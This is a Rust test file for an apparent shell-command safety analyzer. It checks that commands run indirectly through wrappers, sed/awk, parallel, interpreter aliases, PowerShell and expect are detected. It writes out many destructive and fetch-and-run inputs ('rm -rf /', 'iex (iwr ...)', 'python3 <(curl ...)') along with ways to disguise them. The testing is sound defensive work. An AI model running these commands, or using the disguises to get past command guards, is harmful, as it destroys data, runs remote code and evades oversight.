//! Commands that run commands (issue 17, issue 10 §5): wrappers with their own options,
//! `sed`/`awk` executing commands, `parallel` arguments, interpreter aliases, process
//! substitution fed to interpreters, POSIX sh mode, Windows program paths.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use crate::*;

fn an(s: &str) -> Analysis {
    analyze(s, &AnalyzeOptions::default())
}

fn argvs(a: &Analysis) -> Vec<Vec<String>> {
    a.invocations
        .iter()
        .map(|i| i.argv.iter().map(|x| x.value.clone()).collect())
        .collect()
}

/// The analysis has an invocation with exactly this argv.
fn has(src: &str, want: &[&str]) -> Analysis {
    let a = an(src);
    assert!(
        argvs(&a).iter().any(|v| v == want),
        "{src:?}: no {want:?} in {:#?}",
        argvs(&a)
    );
    a
}

fn lacks_program(src: &str, prog: &str) {
    let a = an(src);
    assert!(
        !a.invocations.iter().any(|i| i.program == prog),
        "{src:?}: unexpected `{prog}` in {:#?}",
        argvs(&a)
    );
}

#[test]
fn wrappers_with_their_own_options() {
    has("nsenter -t 1 -m -u rm -rf /", &["rm", "-rf", "/"]);
    has(
        "nsenter --target 1 --mount --uts -- rm -rf /",
        &["rm", "-rf", "/"],
    );
    has("nsenter -S 0 -G 0 -t 1 -a rm x", &["rm", "x"]);
    has("taskset 0x1 rm -rf /", &["rm", "-rf", "/"]);
    has("taskset -c 0,1 rm -rf /", &["rm", "-rf", "/"]);
    // `taskset -p` changes a running process: no command
    lacks_program("taskset -p 0x1 1234", "1234");
    // runuser's su form runs `-c` through a shell; `-u` runs the arguments
    has("runuser dev -c 'rm -rf /'", &["rm", "-rf", "/"]);
    has("runuser - dev -c 'rm -rf /'", &["rm", "-rf", "/"]);
    has("runuser -u dev -- rm -rf /", &["rm", "-rf", "/"]);
    // clusters ending in -c
    has("script -qc 'rm -rf /' /dev/null", &["rm", "-rf", "/"]);
    has("script -q -c 'rm -rf /' /dev/null", &["rm", "-rf", "/"]);
    has("su -lc 'rm -rf /' root", &["rm", "-rf", "/"]);
    has("su --session-command='rm -rf /'", &["rm", "-rf", "/"]);
    // `-s SHELL` takes a value: `-sc` is not `-c`
    lacks_program("su -sc root", "root");
    // flock: `-c` only right after the lock file; otherwise the rest is the command
    has("flock -n /tmp/l -c 'rm -rf /'", &["rm", "-rf", "/"]);
    has("flock -w 5 /tmp/l rm -rf /", &["rm", "-rf", "/"]);
    let a = has("flock /tmp/l gcc -c x.c", &["gcc", "-c", "x.c"]);
    assert!(a.problems.is_empty(), "{:#?}", a.problems);
    lacks_program("flock /tmp/l gcc -c x.c", "x.c");
}

#[test]
fn parallel_arguments_are_placed() {
    has("parallel rm -rf ::: / ~", &["rm", "-rf", "/"]);
    has("parallel rm -rf ::: / ~", &["rm", "-rf", "~"]);
    has("parallel 'rm -rf {}' ::: /", &["rm", "-rf", "/"]);
    has(
        "parallel -j4 'rm -rf {}/x' ::: /etc",
        &["rm", "-rf", "/etc/x"],
    );
    has("parallel -I @@ 'rm -rf @@' ::: /", &["rm", "-rf", "/"]);
    // no command: each argument is a command line
    has("parallel ::: 'rm -rf /' 'ls'", &["rm", "-rf", "/"]);
    // arguments from stdin or files are unknown
    let a = an("ls | parallel rm -rf");
    let rm = a.invocations.iter().find(|i| i.program == "rm").unwrap();
    assert!(rm.argv.iter().any(|x| x.dynamic), "{rm:#?}");
    let a = an("parallel rm -rf :::: list.txt");
    let rm = a.invocations.iter().find(|i| i.program == "rm").unwrap();
    assert!(rm.argv.iter().any(|x| x.dynamic), "{rm:#?}");
    // globs stay globs, literals stay literal
    let a = an("parallel gzip ::: *.log");
    let g = a.invocations.iter().find(|i| i.program == "gzip").unwrap();
    assert!(g.argv[1].glob, "{g:#?}");
    has("parallel echo ::: 'a b'", &["echo", "a b"]);
    let a = an("parallel rm -rf ::: / ~");
    let rm = a.invocations.iter().find(|i| i.program == "rm").unwrap();
    assert_eq!(rm.origin, "in `parallel` command, simple command 1");
    assert_eq!(rm.wrappers, ["parallel"]);
}

#[test]
fn sed_and_awk_run_commands() {
    let a = has("sed 'e rm -rf /' f", &["rm", "-rf", "/"]);
    let rm = a.invocations.iter().find(|i| i.program == "rm").unwrap();
    assert_eq!(rm.origin, "in `sed` e command, simple command 1");
    assert_eq!(rm.wrappers, ["sed"]);
    assert!(a.invocations[0].dynamic_exec.is_none());
    // the pattern space runs: known replacement + input
    let a = has("sed 's/.*/rm -rf \\//e' f", &["rm", "-rf", "/"]);
    assert_eq!(a.invocations[0].dynamic_exec, Some(vec![]));
    let a = an("cat cmds | sed e");
    assert_eq!(a.invocations[1].dynamic_exec, Some(vec![0]));
    // sed -n '/e/p', in-place edits, --sandbox: nothing runs
    for s in [
        "sed -n '/e/p' f",
        "sed -i 's/a/b/' f",
        "sed -ie 's/a/b/' f",
        "sed --sandbox 'e rm -rf /' f",
        "sed -f script.sed f",
    ] {
        let a = an(s);
        assert_eq!(a.invocations.len(), 1, "{s}: {:#?}", argvs(&a));
        assert!(a.invocations[0].dynamic_exec.is_none(), "{s}");
    }
    let a = has("awk 'BEGIN{system(\"rm -rf /\")}'", &["rm", "-rf", "/"]);
    let rm = a.invocations.iter().find(|i| i.program == "rm").unwrap();
    assert_eq!(rm.origin, "in `awk` command, simple command 1");
    has("gawk '{print | \"rm -rf /\"}' f", &["rm", "-rf", "/"]);
    has(
        "busybox awk '{print |& \"rm -rf /\"}' f",
        &["rm", "-rf", "/"],
    );
    has("awk 'BEGIN{\"rm -rf /\" | getline x}'", &["rm", "-rf", "/"]);
    let a = an("awk '{system($0)}' f");
    assert_eq!(a.invocations[0].dynamic_exec, Some(vec![]));
    // a shell fed the program's output runs what it prints
    let a = an("awk '{print \"rm\", $1 | \"sh\"}' f");
    assert!(a.invocations[0].dynamic_exec.is_some());
    for s in [
        "awk '{print $1}' f",
        "awk -F: '$1 ~ /a|b/ {print $1}' /etc/passwd",
        "awk --sandbox 'BEGIN{system(\"rm -rf /\")}'",
    ] {
        let a = an(s);
        assert_eq!(a.invocations.len(), 1, "{s}: {:#?}", argvs(&a));
        assert!(a.invocations[0].dynamic_exec.is_none(), "{s}");
    }
    // sorting through a pipe is an everyday command, seen as one
    has("awk '{print $1 | \"sort -u\"}' f", &["sort", "-u"]);
}

#[test]
fn interpreter_aliases_and_literal_concatenation() {
    let rm = |src: &str, path: &str| {
        has(src, &["rm", "-rf", path]);
    };
    rm(
        "python3 -c \"from shutil import rmtree as wipe; wipe('/x')\"",
        "/x",
    );
    rm("python3 -c \"import shutil as sh; sh.rmtree('/x')\"", "/x");
    rm(
        "python3 -c \"import shutil; w = shutil.rmtree; w('/x')\"",
        "/x",
    );
    rm(
        "python3 -c \"import shutil; shutil.rmtree('/h' + 'o' 'me')\"",
        "/home",
    );
    rm(
        "python3 -c \"import os, shutil; shutil.rmtree(os.path.join('/home', 'dev'))\"",
        "/home/dev",
    );
    rm("python3 -c \"__import__('shutil').rmtree('/x')\"", "/x");
    rm(
        "node -e \"const {rmSync: r} = require('fs'); r('/x', {recursive: true})\"",
        "/x",
    );
    rm(
        "node -e \"import {rmSync as r} from 'node:fs'; r('/x', {recursive: true})\"",
        "/x",
    );
    rm(
        "node -e \"const path = require('path'); require('fs').rmSync(path.join('/a', 'b'), {recursive: true})\"",
        "/a/b",
    );
    rm(
        "ruby -e \"require 'fileutils'; include FileUtils; rm_rf('/x')\"",
        "/x",
    );
    rm("ruby -e \"FU = FileUtils; FU.rm_rf('/x')\"", "/x");
    rm(
        "perl -e '*wipe = \\&File::Path::rmtree; wipe(\"/x\")'",
        "/x",
    );
    has(
        "python3 -c \"from os import system as s; s('rm -rf /')\"",
        &["rm", "-rf", "/"],
    );
    has(
        "python3 -c \"import subprocess as x; x.run('rm -rf /', shell=True)\"",
        &["rm", "-rf", "/"],
    );
    has(
        "node -e \"const x = require('child_process'); x.execSync('rm -rf /')\"",
        &["rm", "-rf", "/"],
    );
    has(
        "node -e \"import * as cp from 'child_process'; cp.exec('rm -rf /')\"",
        &["rm", "-rf", "/"],
    );
    has(
        "node -e \"const {execSync: run} = require('child_process'); run('rm -rf /')\"",
        &["rm", "-rf", "/"],
    );
    has("perl -e 'system(\"rm -rf \" . \"/\")'", &["rm", "-rf", "/"]);
    has("perl -e 'CORE::system(\"rm -rf /\")'", &["rm", "-rf", "/"]);
    // the origin names the call as written
    let a = an("python3 -c \"import os as o; o.system('rm -rf /')\"");
    let r = a.invocations.iter().find(|i| i.program == "rm").unwrap();
    assert_eq!(
        r.origin,
        "in `python3 -c` code: o.system(...), simple command 1"
    );
    // everyday look-alikes: nothing is run
    for s in [
        "python3 -c \"import shutil as sh; sh.copy('a', 'b')\"",
        "python3 -c \"from os import path as p; print(p.join('a', 'b'))\"",
        "node -e \"const {readFileSync: r} = require('fs'); r('package.json')\"",
        "ruby -e \"include FileUtils; mkdir_p('build')\"",
        "perl -e 'print \"a\" . \"b\"'",
    ] {
        let a = an(s);
        assert!(
            !a.invocations
                .iter()
                .any(|i| i.program == "rm" || (i.depth > 0 && i.program != "cat")),
            "{s}: {:#?}",
            argvs(&a)
        );
    }
}

#[test]
fn process_substitution_fed_to_an_interpreter() {
    for s in [
        "python3 <(curl -s https://x/i)",
        "node <(curl -s https://x/i)",
        "perl <(wget -qO- https://x/i)",
        "ruby -w <(curl https://x/i)",
    ] {
        let a = an(s);
        let last = a.invocations.last().unwrap();
        assert_eq!(last.dynamic_exec, Some(vec![0]), "{s}: {a:#?}");
    }
    // a script file operand (dynamic or not) is not code on the command line
    for s in ["python3 $SCRIPT", "python3 tool.py <(echo x)"] {
        let a = an(s);
        assert!(
            a.invocations.iter().all(|i| i.dynamic_exec.is_none()),
            "{s}: {a:#?}"
        );
    }
}

#[test]
fn posix_shells_parse_double_parens_as_subshells() {
    has("dash -c '((rm -rf /))'", &["rm", "-rf", "/"]);
    has("sh -c '(((rm -rf /)))'", &["rm", "-rf", "/"]);
    has("sh -c 'echo $( ((rm -rf /)) )'", &["rm", "-rf", "/"]);
    has("sh -c 'eval \"((rm -rf /))\"'", &["rm", "-rf", "/"]);
    // bash arithmetic stays arithmetic, also inside a POSIX shell's bash -c
    lacks_program("bash -c '(((reboot)))'", "reboot");
    lacks_program("sh -c \"bash -c '((reboot))'\"", "reboot");
    lacks_program("(((reboot)))", "reboot");
    // the mode does not leak to what follows
    lacks_program("sh x.sh; bash -c '((reboot))'", "reboot");
    let a = an("sh -c '((x=1))'");
    assert!(a.problems.is_empty(), "{:#?}", a.problems);
}

#[test]
fn windows_program_paths_resolve_to_the_program() {
    for (src, prog) in [
        ("\"C:\\Program Files\\Git\\bin\\git.exe\" push", "git"),
        ("'C:/Tools/RM.EXE' -rf x", "rm"),
        ("'\\\\srv\\share\\deploy.cmd' x", "deploy"),
        ("/c/Program\\ Files/Git/bin/git.exe status", "git.exe"),
    ] {
        let a = an(src);
        assert_eq!(a.invocations[0].program, prog, "{src}");
    }
    // a Windows shell by path is looked into
    has(
        "'C:\\Program Files\\Git\\bin\\bash.exe' -c 'rm -rf /'",
        &["rm", "-rf", "/"],
    );
}

#[test]
fn literal_process_substitution_is_parsed() {
    let a = has("bash <(echo 'rm -rf /')", &["rm", "-rf", "/"]);
    assert!(
        a.invocations.iter().all(|i| i.dynamic_exec.is_none()),
        "{a:#?}"
    );
    let r = a.invocations.iter().find(|i| i.program == "rm").unwrap();
    assert_eq!(
        r.origin,
        "in process substitution fed to `bash`, simple command 1"
    );
    let a = has(
        "python3 <(echo \"import os; os.system('rm -rf /')\")",
        &["rm", "-rf", "/"],
    );
    assert!(
        a.invocations.iter().all(|i| i.dynamic_exec.is_none()),
        "{a:#?}"
    );
    let a = an("python3 <(printf 'print(1)')");
    assert!(
        a.invocations.iter().all(|i| i.dynamic_exec.is_none()),
        "{a:#?}"
    );
}

#[test]
fn powershell_cmdlets_are_bound_and_looked_into() {
    let a = has(
        "pwsh -c 'Remove-Item -Path C:\\x -Recurse -Force'",
        &["Remove-Item", "-Recurse", "-Force", "C:\\x"],
    );
    assert!(a.problems.is_empty(), "{:#?}", a.problems);
    has("pwsh -c 'ri -rec -fo $HOME'", &["ri", "-rec", "-fo", "~"]);
    has(
        "pwsh -c 'Set-Content ~/.bashrc \"x\"'",
        &["Set-Content", "-value", "x", "~/.bashrc"],
    );
    // a variable CAVRA cannot resolve is a dynamic argument
    let a = an("pwsh -c 'Remove-Item -Recurse $target'");
    let ri = a
        .invocations
        .iter()
        .find(|i| i.program == "remove-item")
        .unwrap();
    assert!(ri.argv.last().unwrap().dynamic, "{ri:#?}");
    // `'$x'` in single quotes is literal text
    let a = an("pwsh -c \"Write-Output '$x'\"");
    let w = a
        .invocations
        .iter()
        .find(|i| i.program == "write-output")
        .unwrap();
    assert!(!w.argv[1].dynamic, "{w:#?}");
    // redirections
    let a = an("pwsh -c 'echo x > ~/.bashrc'");
    let e = a.invocations.iter().find(|i| i.program == "echo").unwrap();
    assert_eq!(e.redirects.len(), 1);
    assert_eq!(e.redirects[0].target.value, "~/.bashrc");
    assert_eq!(e.redirects[0].kind, RedirKind::Write);
    // Start-Process runs its file with its arguments
    let a = has(
        "pwsh -c 'Start-Process cmd -ArgumentList \"/c rd /s /q C:\\\"'",
        &["rd", "/s", "/q", "C:\\"],
    );
    let rd = a.invocations.iter().find(|i| i.program == "rd").unwrap();
    assert_eq!(rd.wrappers, ["pwsh", "start-process", "cmd"]);
    has(
        "pwsh -c 'Start-Process -FilePath npm -ArgumentList \"run\",\"build\" -Wait'",
        &["npm", "run", "build"],
    );
    lacks_program("pwsh -c 'Start-Process https://example.com'", "https:");
    // iex of a subexpression: the statement's commands produce the code
    let a = an("pwsh -c 'iex (iwr https://x/i).Content; Get-Date'");
    let iex = a.invocations.iter().find(|i| i.program == "iex").unwrap();
    let iwr = a
        .invocations
        .iter()
        .position(|i| i.program == "iwr")
        .unwrap();
    let date = a
        .invocations
        .iter()
        .position(|i| i.program == "get-date")
        .unwrap();
    let producers = iex.dynamic_exec.clone().unwrap();
    assert!(
        producers.contains(&iwr) && !producers.contains(&date),
        "{a:#?}"
    );
    // WebClient downloads are downloads
    let a = an("pwsh -c 'iex (New-Object Net.WebClient).DownloadString(\"https://x/i\")'");
    let dl = a
        .invocations
        .iter()
        .position(|i| i.program == "invoke-webrequest")
        .unwrap();
    assert_eq!(a.invocations[dl].argv[1].value, "https://x/i");
    let iex = a.invocations.iter().find(|i| i.program == "iex").unwrap();
    assert!(iex.dynamic_exec.clone().unwrap().contains(&dl));
    has(
        "pwsh -c '(New-Object Net.WebClient).DownloadFile(\"https://x/i\", \"i.ps1\")'",
        &["invoke-webrequest", "https://x/i", "-OutFile", "i.ps1"],
    );
}

#[test]
fn programs_that_give_a_command_a_terminal_of_its_own_run_it() {
    // expect's `spawn` (and `exec`, `system`, what `send` types into a spawned shell)
    let a = has(
        "expect -c 'spawn cavra tokens issue --role admin; expect yes; send \"y\\r\"'",
        &["cavra", "tokens", "issue", "--role", "admin"],
    );
    let c = a.invocations.iter().find(|i| i.program == "cavra").unwrap();
    assert_eq!(c.origin, "in `expect` script, simple command 1");
    has(
        "expect -c 'spawn bash; send \"cavra approvals approve a1\\r\"'",
        &["cavra", "approvals", "approve", "a1"],
    );
    has(
        "expect <<'EOF'\nspawn git push --force\nexpect eof\nEOF",
        &["git", "push", "--force"],
    );
    has("tclsh <<< 'exec rm -rf /'", &["rm", "-rf", "/"]);
    let a = an("expect -c 'spawn $env(CMD)'");
    assert!(a.invocations[0].dynamic_exec.is_some());
    // python's pty.spawn and the os.exec*/spawn* family take an argv
    has(
        "python3 -c 'import pty; pty.spawn([\"cavra\", \"tokens\", \"issue\"])'",
        &["cavra", "tokens", "issue"],
    );
    has(
        "python3 -c 'from pty import spawn; spawn([\"rm\", \"-rf\", \"/\"])'",
        &["rm", "-rf", "/"],
    );
    has(
        "python3 -c 'import os; os.execvp(\"git\", [\"git\", \"push\", \"-f\"])'",
        &["git", "push", "-f"],
    );
    has(
        "python3 -c 'import os; os.spawnlp(os.P_WAIT, \"rm\", \"rm\", \"-rf\", \"/\")'",
        &["rm", "-rf", "/"],
    );
    has(
        "python3 -c 'import os; os.posix_spawnp(\"cavra\", [\"cavra\", \"keys\", \"rotate\"], {})'",
        &["cavra", "keys", "rotate"],
    );
    // look-alikes run nothing
    for s in [
        "expect -c 'puts hello'",
        "expect -f login.exp",
        "python3 -c 'import os; print(os.getcwd())'",
        "python3 -c 'import pty; print(pty.STDIN_FILENO)'",
    ] {
        let a = an(s);
        assert_eq!(a.invocations.len(), 1, "{s}: {:#?}", argvs(&a));
    }
}
